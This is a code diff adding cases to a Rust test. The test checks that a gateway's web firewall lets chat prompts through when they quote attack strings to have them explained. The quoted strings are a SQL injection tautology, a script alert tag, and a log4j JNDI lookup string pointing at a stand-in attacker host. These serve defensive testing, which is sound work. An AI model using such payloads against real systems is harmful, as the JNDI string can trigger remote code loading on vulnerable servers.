@@ -1081,6 +1081,17 @@ async fn waf_blocks_web_attacks_but_leaves_prompts_to_the_guard() {
         .chat(user("Why is `SELECT * FROM users WHERE id = 1 OR 1=1` dangerous? And what does <script>alert(1)</script> do?"))
         .await;
     assert_eq!(ok.status(), 200);
+    // So is a log line, a protocol or a URL quoted to be explained (each
+    // was a 403 while only the injection categories were skipped in
+    // prompts).
+    for q in [
+        "Explain what ${jndi:ldap://evil.example/a} does in a log4j log line.",
+        "Here is my request:\nPOST /login HTTP/1.1\nHost: example.com\n\nwhy 400?",
+        "Is http://localhost:8080/admin reachable from inside the container?",
+    ] {
+        let r = gw.chat(user(q)).await;
+        assert_eq!(r.status(), 200, "{q}");
+    }
     let r = gw
         .http
         .post(format!(
